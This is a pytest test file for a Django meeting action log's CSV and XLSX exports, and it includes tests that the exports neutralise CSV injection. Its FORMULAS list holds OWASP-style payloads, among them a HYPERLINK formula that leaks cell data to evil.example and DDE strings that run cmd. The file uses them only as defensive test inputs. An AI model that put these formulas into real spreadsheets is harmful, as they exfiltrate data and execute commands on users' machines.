import csv
import datetime
import io
import shutil
import subprocess
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actions.exports import LOG_COLUMNS
from actions.models import Action
from actions.services import add_update, mark_complete
from tests.factories import ActionFactory, BodyFactory, ItemFactory, MeetingFactory

EXPECTED_OPEN = [
    [
        "2017/10-01",
        "Share the Athena brief",
        "DCC",
        "Monthly Assurance Meeting October 2017",
        "2",
        "By 31 December 2017",
        "10 November 2017: Drafted.",
        "Open",
    ],
    [
        "2017/10-03",
        "=SUM(A1) is not a formula",
        "DCC ME ALL",
        "Monthly Assurance Meeting October 2017",
        "5a/1",
        "November 2017 meeting",
        "",
        "Open",
    ],
]


@pytest.fixture
def log(action, october, item, dcc, acc, owner_user):
    add_update(action, text="Drafted.", on_date=datetime.date(2017, 11, 10), by=owner_user)
    completed = ActionFactory(item=item, reference="2017/10-02", text="Done one", owners=[dcc])
    mark_complete(completed, note="Done", by=owner_user)
    question = ItemFactory(
        meeting=october, number="1", parent=ItemFactory(meeting=october, number="5a")
    )
    ActionFactory(
        item=question,
        reference="2017/10-03",
        text="=SUM(A1) is not a formula",
        owners=[dcc, acc.holder, BodyFactory(label="ALL", name="All attendees")],
        due_meeting=datetime.date(2017, 11, 1),
    )


def _page_refs(client, query):
    return [a.reference for a in client.get(reverse("actions:log"), query).context["actions"]]


def test_the_csv_export_is_the_filtered_list(client, log, opcc_user):
    client.force_login(opcc_user)
    response = client.get(reverse("kept:action_log_csv"), {"status": "open"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="action-log-')
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    formula = EXPECTED_OPEN[1]
    assert rows == [
        LOG_COLUMNS,
        [*EXPECTED_OPEN[0], "2017-12-31"],
        [formula[0], f"'{formula[1]}", *formula[2:], ""],
    ]
    assert [row[0] for row in rows[1:]] == _page_refs(client, {"status": "open"})


def test_the_xlsx_export_is_the_filtered_list(client, log, opcc_user):
    client.force_login(opcc_user)
    response = client.get(reverse("kept:action_log_xlsx"), {"status": "open"})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
    assert rows == [
        LOG_COLUMNS,
        [*EXPECTED_OPEN[0], datetime.datetime(2017, 12, 31)],
        [*EXPECTED_OPEN[1], ""],
    ]
    assert (sheet["I2"].is_date, sheet["I2"].number_format) == (True, "dd mmmm yyyy")
    assert sheet["B3"].data_type == "s"


def test_the_export_takes_every_page_not_just_the_first(client, item, opcc_user):
    ActionFactory.create_batch(51, item=item)
    client.force_login(opcc_user)
    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("kept:action_log_csv")).getvalue().decode("utf-8-sig"))
        )
    )
    assert len(rows) == 52
    assert len(_page_refs(client, {})) == 50


def test_a_force_officer_exports_only_what_they_may_see(client, log, other_force_user, dcc):
    draft_item = ItemFactory(
        meeting=MeetingFactory(date=datetime.date(2017, 11, 29), status="draft")
    )
    ActionFactory(item=draft_item, reference="2017/11-01", owners=[dcc])
    client.force_login(other_force_user)
    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("kept:action_log_csv")).getvalue().decode("utf-8-sig"))
        )
    )
    assert [row[0] for row in rows[1:]] == ["2017/10-01", "2017/10-02", "2017/10-03"]


# What OWASP's "CSV Injection" page lists, one per way a spreadsheet starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(item, dcc):
    """Actions whose text and due wording are formulas, and one that starts with the
    apostrophe the CSV export uses to mark text."""
    for number, text in enumerate([*FORMULAS, "'Quoted as minuted"], start=1):
        ActionFactory(
            item=item,
            reference=f"2017/10-{number:02d}",
            text=text,
            owners=[dcc],
            due_wording=text,
        )


def test_the_csv_export_makes_formulas_text_with_a_leading_apostrophe(client, formulas, opcc_user):
    client.force_login(opcc_user)
    response = client.get(reverse("kept:action_log_csv"))
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
    expected = [f"'{text}" for text in [*FORMULAS, "'Quoted as minuted"]]
    assert [row[1] for row in rows[1:]] == expected
    assert [row[5] for row in rows[1:]] == expected
    # Cells that start with nothing a spreadsheet runs are left as they are.
    assert rows[1][:1] + rows[1][2:5] + rows[1][6:] == [
        "2017/10-01",
        "DCC",
        "Monthly Assurance Meeting October 2017",
        "2",
        "",
        "Open",
        "",
    ]


def test_the_xlsx_export_stores_formulas_as_text_without_an_apostrophe(client, formulas, opcc_user):
    client.force_login(opcc_user)
    content = client.get(reverse("kept:action_log_xlsx")).getvalue()
    sheet = load_workbook(io.BytesIO(content)).active
    texts = [*FORMULAS, "'Quoted as minuted"]
    assert [cell.value for cell in sheet["B"][1:]] == texts
    assert [cell.value for cell in sheet["F"][1:]] == texts
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value} == {
        "s"
    }
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_xlsx_export_leaves_out_control_characters_a_worksheet_cannot_hold(
    client, item, dcc, opcc_user
):
    ActionFactory(item=item, text="Brief\x0bthe\x01 board\x1b", owners=[dcc])
    client.force_login(opcc_user)
    response = client.get(reverse("kept:action_log_xlsx"))
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.getvalue())).active["B2"].value == "Briefthe board"


@pytest.mark.interop
def test_libreoffice_reads_the_xlsx_due_date_as_a_date_and_the_text_whole(
    client, log, opcc_user, tmp_path
):
    """LibreOffice opens the workbook and writes it back as CSV: the due date is a date
    shown as the product shows dates, and curly apostrophes are still themselves."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    Action.objects.filter(reference="2017/10-01").update(text="Brief the PCC’s office")
    client.force_login(opcc_user)
    (tmp_path / "log.xlsx").write_bytes(client.get(reverse("kept:action_log_xlsx")).getvalue())
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
            "--outdir",
            str(tmp_path / "out"),
            str(tmp_path / "log.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "log.csv").read_text("utf-8-sig"))))
    assert rows[1][1] == "Brief the PCC’s office"
    assert (rows[0][8], rows[1][8], rows[2][8]) == ("Due date", "31 December 2017", "")
